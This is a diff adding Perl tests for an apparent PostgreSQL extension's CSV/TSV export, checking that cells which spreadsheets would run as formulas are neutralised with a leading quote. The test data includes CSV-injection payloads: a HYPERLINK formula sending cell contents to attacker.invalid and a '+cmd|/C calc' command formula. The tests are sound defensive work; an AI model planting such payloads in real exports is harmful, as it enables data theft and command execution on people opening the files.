@@ -351,6 +351,42 @@ my ($quoted) = grep { /"a,""b"""/ } @records;
 ok(defined $quoted, 'a field with a comma and quotes is quoted, its quotes doubled');
 is((csv_fields($quoted))[2], 'a,"b"', 'and reads back as it was');
 
+# --- export: text a spreadsheet would run as a formula --------------------------------
+# (OWASP's CSV injection: a forged target or mode; cells beginning with = + - @, a tab or a CR
+# get a leading ', which spreadsheets read as text; numbers stay numbers)
+add_batch(1031, iops => [1000], target => '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
+	mode => '+cmd|/C calc!A0', physical => -5);
+add_batch(1032, iops => [1000], target => '@SUM(A1:A9)', mode => '-x');
+@paths = split /\n/, $node->safe_psql('postgres', "SELECT * FROM ranread_export('$dir', csv => true)");
+my @csv_records = split /\r\n/, slurp_file($paths[1]);
+my @csv_header = csv_fields($csv_records[0]);
+my %at = map { $csv_header[$_] => $_ } 0 .. $#csv_header;
+my %by_batch = map { my @f = csv_fields($_); ($f[ $at{batch} ] => \@f) } @csv_records[ 1 .. $#csv_records ];
+is(join(' | ', map { $by_batch{1031}[ $at{$_} ] } qw(target mode physical_pct)),
+	q{'=HYPERLINK("http://attacker.invalid/?"&A1,"click") | '+cmd|/C calc!A0 | -5.0},
+	'CSV: a target and a mode a spreadsheet would run as formulas are exported as text, a negative number as it is');
+is(join(' | ', map { $by_batch{1032}[ $at{$_} ] } qw(target mode)), q{'@SUM(A1:A9) | '-x}, 'likewise @ and -');
+my ($tsv_line) = grep { /^\S+\t\S+\t'\@SUM/ } split /\n/, slurp_file($paths[0]);
+ok(defined $tsv_line, 'and in the TSV');
+
+# --- export to the client: ranread_export_files() and psql --------------------------
+# The same files as rows: written by psql with unaligned, tuples-only output they are the
+# server's files byte for byte (the function leaves out the final newline psql adds).
+my $files = $node->safe_psql('postgres', 'SELECT string_agg(file, \' \' ORDER BY file) FROM ranread_export_files(csv => true)');
+like($files, qr/^ranread_\d{8}-\d{4}\.csv ranread_\d{8}-\d{4}\.tsv$/, 'ranread_export_files(csv => true): the CSV and the TSV, named as ranread_export() names them');
+foreach my $kind ('tsv', 'csv')
+{
+	my $client = "$dir/client.$kind";
+	my ($r, $o, $e) = $node->psql('postgres',
+		"SELECT content FROM ranread_export_files(csv => true) WHERE file LIKE '%.$kind' \\g (format=unaligned tuples_only=on) $client");
+	is($r, 0, "psql writes the $kind on the client") or diag($e);
+	is(slurp_file($client), slurp_file($kind eq 'tsv' ? $paths[0] : $paths[1]),
+		"and it is ranread_export()'s $kind byte for byte");
+}
+
+# the forged batches go: the exports below count what the rest recorded
+$node->safe_psql('postgres', 'DELETE FROM ranread_results WHERE batch IN (1031, 1032); DELETE FROM ranread_batches WHERE batch IN (1031, 1032)');
+
 # --- export: never overwrite -------------------------------------------------------
 # within one minute: wait if it is about to turn
 my $second = $node->safe_psql('postgres', "SELECT extract(second FROM now())::int");
